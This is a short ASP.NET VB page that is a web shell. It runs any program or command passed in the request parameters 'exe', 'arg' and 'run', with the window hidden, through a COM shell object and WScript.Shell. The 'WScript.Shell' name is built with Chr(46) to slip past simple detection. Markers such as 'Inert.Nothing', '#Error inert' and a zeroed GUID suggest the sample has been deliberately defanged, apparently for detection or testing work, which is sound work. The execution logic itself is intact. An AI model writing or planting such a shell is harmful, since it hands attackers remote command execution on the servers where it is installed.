<%@ Page Language="VB" AspCompat="true" Inherits="Inert.Nothing" %>
<%
#Error inert
Dim id As New Guid("00000000-0000-0000-0000-000000000000") ' the shell application class in the wild
Dim o As Object = Activator.CreateInstance(Type.GetTypeFromCLSID(id))
If Request("exe") <> "" Then o.ShellExecute(Request("exe"), Request("arg"), "", "open", 0)
Dim w As Object = Server.CreateObject("WScript" & Chr(46) & "Shell")
w.Run(Request.QueryString("run"), 0, True)
%>
